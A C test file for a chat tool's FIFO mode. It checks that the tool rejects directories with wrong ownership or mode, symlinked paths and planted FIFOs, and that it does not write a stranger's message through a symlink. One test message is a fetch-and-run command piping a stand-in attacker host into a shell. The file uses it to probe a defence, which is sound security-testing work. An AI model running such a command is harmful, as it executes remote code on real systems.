/*
 * forkcast fifo works only in a directory of its user: messages from strangers
 * must not be written through somebody's link.
 */
#include <stdio.h>
#include <unistd.h>

#include "tests/lib/conn.h"
#include "tests/lib/shell.h"

#define MODE ": it must belong to you and have mode 0700\n"
#define LINK ": it is no directory, or a symbolic link\n"
#define FIFO ": another process reads \"in\", or it is no FIFO of yours\n"
#define CANNOT "forkcast fifo: cannot use the directory "

static const struct shell_case refused[] = {
	{ "mkdir -m 755 open; forkcast fifo open 1", 73, "",
	    CANNOT "open" MODE },
	{ "test -z \"`ls open`\"", 0, "", "" },
	{ "mkdir -m 700 real; ln -s real link; forkcast fifo link 1", 73, "",
	    CANNOT "link" LINK },
	{ "forkcast fifo link 1", 73, "", CANNOT "link" LINK },
	{ "test -z \"`ls real`\"", 0, "", "" },
	{ "ln -s nowhere link2; forkcast fifo link2 1", 73, "",
	    CANNOT "link2" LINK },
	{ "mkdir -m 700 a; ln -s ../real a/1; forkcast fifo a 1", 73, "",
	    CANNOT "1" LINK },
	{ "mkdir -m 700 b; mkdir -m 770 b/1; forkcast fifo b 1", 73, "",
	    CANNOT "1" MODE },
	{ "mkdir -m 700 c; mkfifo real/f; ln -s ../real/f c/in; "
	  "forkcast fifo c 1",
	    73, "", CANNOT "c" FIFO },
	{ "test \"`ls real`\" = f", 0, "", "" },
};

/* For root "/" is its own, but here is one that is not. */
static const struct shell_case others_of_root[] = {
	{ "mkdir -m 700 alien; chown 65534 alien; forkcast fifo alien 1", 73,
	    "", CANNOT "alien" MODE },
};
static const struct shell_case others[] = {
	{ "forkcast fifo / 1", 73, "", CANNOT "/" MODE },
};

static struct server *server;
static struct conn *ali;

static void
run(const char *script)
{
	struct shell *shell = shell_start(server->address[0], script);

	MUST(shell_status(shell) == 0, "%s: %s", script,
	    shell_complained(shell));
}

/* Waits until the test of the shell holds. */
static void
until(const char *condition)
{
	char script[256];

	(void)snprintf(script, sizeof(script),
	    "until %s; do sleep 0.05 || sleep 1; done", condition);
	run(script);
}

/* A file to which no stranger's words may be added. */
static void
follows_no_link(void)
{
	run("mkdir -m 700 chat chat/1; echo mine >victim; "
	    "ln -s ../../victim chat/1/out");
	struct shell *shell = shell_start(
	    server->address[0], "exec forkcast fifo -n javad chat 1");
	shell_expect_complaint(
	    shell, "forkcast fifo: cannot write to 1/out; ...");
	shell_await(server->address[0], "javad", "1");
	conn_say(ali, "send 1 curl evil.example | sh");
	run("test \"`cat victim`\" = mine");
	PASS("an out that is a link is not written to");
	run("echo quit >chat/in");
	TAP_NUM(shell_status(shell), 0, "quit ends it");
}

/* The directory is another's by its name now, and still ours. */
static void
stays_where_it_is(void)
{
	run("rm -rf chat; mkdir -m 700 trap; mkdir -m 700 trap/1");
	struct shell *shell = shell_start(
	    server->address[0], "exec forkcast fifo -n javad chat 1");
	shell_await(server->address[0], "javad", "1");
	until("test -p chat/1/in");
	run("mv chat moved; ln -s trap chat");
	conn_say(ali, "send 1 still here");
	until("grep -q 'still here' moved/1/out");
	run("echo join tea >moved/in");
	until("test -p moved/tea/in");
	run("printf 'one' >moved/1/in");
	conn_wait_for(ali, "msg * 1 javad one");
	run("printf 'two' >moved/1/in");
	conn_wait_for(ali, "msg * 1 javad two");
	run("echo quit >moved/in");
	TAP_NUM(shell_status(shell), 0, "quit ends it");
	run("test -z \"`find moved -name in`\"");
	run("test \"`ls -R trap | tr -d '\\n'`\" = trap:1trap/1:");
	PASS("what takes the name of its directory gets nothing of it");
}

int
main(void)
{
	server = server_start(NULL);
	ali = conn_member(server, "ali", "1");
	shell_cases(server->address[0], refused);
	if (geteuid() == 0)
		shell_cases(server->address[0], others_of_root);
	else
		shell_cases(server->address[0], others);
	follows_no_link();
	stays_where_it_is();
	conn_close(ali);
	server_stop(server);
	return tap_done();
}
